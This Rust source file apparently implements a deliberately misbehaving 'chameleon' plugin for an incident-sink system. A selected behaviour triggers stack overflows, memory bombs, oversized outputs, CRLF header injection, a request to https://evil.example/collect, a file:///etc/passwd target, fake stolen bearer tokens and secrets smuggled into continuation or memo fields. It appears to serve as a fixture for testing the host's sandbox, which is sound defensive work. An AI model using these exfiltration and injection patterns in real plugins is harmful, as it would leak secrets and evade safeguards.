//! The half that sees events.

use alloc::string::{String, ToString as _};
use alloc::vec::Vec;
use alloc::{format, vec};

use crate::bindings::exports::incident_sink::plugin::sink::{Context, Descriptor, Event, Failure, Guest, Problem, Response, Step};
use crate::bindings::incident_sink::plugin::types::{Again, Method, Outcome, Reason, Receipt, Request, Sending, Target};
use crate::marker::Behaviour;
use crate::{Chameleon, havoc, memory};

const MIB: usize = 1024 * 1024;
const SCHEMA: &str = r#"{"type":"object","properties":{"secret":{"type":"string","writeOnly":true}}}"#;

impl Guest for Chameleon {
    fn describe() -> Descriptor {
        memory::count();
        let behaviour = Behaviour::get();
        let behaviour = behaviour.name();
        havoc::at(behaviour, "describe");
        Descriptor {
            name: if behaviour == "wrong-name" { "impostor" } else { "chameleon" }.to_string(),
            version: if behaviour == "bad-version" { "one point oh" } else { version(behaviour) }.to_string(),
            config_schema: match behaviour {
                "bad-schema" => "this is no JSON".to_string(),
                "huge-describe" => format!(r#"{{"type":"object","description":"{}"}}"#, "x".repeat(10 * MIB)),
                _ => SCHEMA.to_string(),
            },
            pace: None,
            max_batch: 10,
            max_body: 20_000,
            extra: Vec::new(),
        }
    }

    fn check(config: String) -> Vec<Problem> {
        memory::count();
        let behaviour = Behaviour::get();
        havoc::at(behaviour.name(), "check");
        if behaviour.name() == "check-complains" || config.contains("\"chameleon-refuse\"") {
            return vec![Problem { path: "/secret".to_string(), text: "The chameleon does not like this.".to_string() }];
        }
        Vec::new()
    }

    fn begin(_config: String, batch: Vec<Event>, cx: Context) -> Result<Step, Failure> {
        memory::count();
        let behaviour = Behaviour::get();
        let behaviour = behaviour.name();
        havoc::at(behaviour, "begin");
        match behaviour {
            "stack-overflow" => _ = havoc::overflow(0),
            "memory-bomb" => {
                havoc::take_all_memory();
                havoc::trap()
            }
            "huge-string" => return Err(failure("huge", "x".repeat(4 * MIB))),
            "begin-fails" => return Err(failure("begin", "This event has no form that the chameleon knows.".to_string())),
            "begin-retries" => return Ok(Step::Done(Outcome::Retry(Again { after_ms: 1, reason: "later".to_string() }))),
            "drops-all" => return Ok(Step::Done(Outcome::Rejected(reason("unwanted", "The chameleon wants no events.")))),
            _ => {}
        }
        Ok(Step::Send(sending(behaviour, &batch, &cx)))
    }

    fn resume(_config: String, continuation: Vec<u8>, answer: Response, _cx: Context) -> Result<Step, Failure> {
        memory::count();
        let behaviour = Behaviour::get();
        let behaviour = behaviour.name();
        havoc::at(behaviour, "resume");
        if behaviour == "endless-steps" {
            let request = request(behaviour, br#"{"again":true}"#.to_vec());
            return Ok(Step::Send(Sending { request, covers: 1, continuation }));
        }
        let status = format!("status {}", answer.status);
        let loot = match behaviour {
            "secret-to-continuation" => Some(text(&continuation)),
            "secret-to-memo" => Some(format!("{} {}", memory::kept(), text(&answer.body[..answer.body.len().min(1000)]))),
            _ => None,
        };
        Ok(Step::Done(match answer.status {
            200..=299 if behaviour == "retries-all" => Outcome::Retry(Again { after_ms: 1, reason: status }),
            200..=299 if behaviour == "throttles-all" => Outcome::Throttled(Again { after_ms: 1, reason: status }),
            200..=299 => Outcome::Delivered(Receipt { id: loot.clone(), memo: loot }),
            429 => Outcome::Throttled(Again { after_ms: 0, reason: status }),
            500..=599 => Outcome::Retry(Again { after_ms: 0, reason: status }),
            _ => Outcome::Rejected(reason(&answer.status.to_string(), "The receiver does not want it.")),
        }))
    }
}

fn version(behaviour: &str) -> &'static str {
    if behaviour == "good-2" || behaviour.starts_with("good-2-") { "2.0.0" } else { "1.0.0" }
}

fn sending(behaviour: &str, batch: &[Event], cx: &Context) -> Sending {
    let all = u32::try_from(batch.len()).unwrap_or(u32::MAX);
    Sending {
        request: request(behaviour, body(behaviour, batch, cx)),
        covers: match behaviour {
            "covers-zero" => 0,
            "covers-too-many" => all + 1,
            _ => all,
        },
        continuation: match behaviour {
            "huge-continuation" => vec![b'x'; 10 * MIB],
            "secret-to-continuation" => format!("kept: {}", memory::kept()).into_bytes(),
            _ => b"first".to_vec(),
        },
    }
}

fn request(behaviour: &str, body: Vec<u8>) -> Request {
    let mut headers = pairs(&[("content-type", "application/json")]);
    headers.extend(pairs(match behaviour {
        "host-header" => &[("host", "evil.example")],
        "crlf-header" => &[("x-note", "a\r\nx-injected: 1")],
        "auth-header" => &[("authorization", "Bearer stolen")],
        "hop-header" => &[("connection", "close"), ("transfer-encoding", "chunked")],
        _ => &[],
    }));
    Request {
        target: match behaviour {
            "other-host" => Target::Allowed("https://evil.example/collect".to_string()),
            "other-path" => Target::Allowed("/collect".to_string()),
            "other-scheme" => Target::Allowed("file:///etc/passwd".to_string()),
            _ => Target::Connector,
        },
        method: Method::Post,
        headers,
        query: if behaviour == "token-query" { pairs(&[("access_token", "stolen")]) } else { Vec::new() },
        body,
    }
}

fn body(behaviour: &str, batch: &[Event], cx: &Context) -> Vec<u8> {
    let extra = match behaviour {
        "huge-body" => return huge_body(),
        "bad-json" => return br#"{"summary":"#.to_vec(),
        "not-utf8-body" => return vec![0xff, 0xfe, 0xfd],
        "keeps-state" => format!(r#","calls":{}"#, memory::calls()),
        "secret-in-static" => format!(r#","kept":{}"#, quoted(&memory::kept())),
        "secret-to-continuation" | "secret-to-memo" => format!(r#","memo":{}"#, quoted(cx.memo.as_deref().unwrap_or(""))),
        "memory-bomb-quiet" => format!(r#","mebibytes":{}"#, havoc::take_all_memory()),
        _ => String::new(),
    };
    let summary = quoted(batch.first().map_or("", |event| event.summary.as_str()));
    let events: Vec<String> = batch.iter().map(|event| quoted(&event.id)).collect();
    format!(
        r#"{{"version":"{}","summary":{summary},"events":[{}],"message":{},"attempt":{}{extra}}}"#,
        version(behaviour),
        events.join(","),
        quoted(&cx.message_id),
        cx.attempt,
    )
    .into_bytes()
}

/// 10 MiB of JSON that is in order.
fn huge_body() -> Vec<u8> {
    let mut body = br#"{"summary":""#.to_vec();
    body.resize(10 * MIB - 2, b'x');
    body.extend(br#""}"#);
    body
}

/// A JSON string.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if c < ' ' => out.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn pairs(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(name, value)| (name.to_string(), value.to_string())).collect()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn reason(code: &str, text: &str) -> Reason {
    Reason { code: code.to_string(), text: text.to_string(), advice: "Change the chameleon.".to_string() }
}

fn failure(code: &str, text: String) -> Failure {
    Failure { code: code.to_string(), text }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_makes_any_text_one_json_string() {
        assert_eq!(quoted("a\"b\\c\nd\u{1f600}"), "\"a\\\"b\\\\c\\u000ad\u{1f600}\"");
    }

    #[test]
    fn a_huge_body_has_the_size_it_claims() {
        assert_eq!(huge_body().len(), 10 * MIB);
    }
}
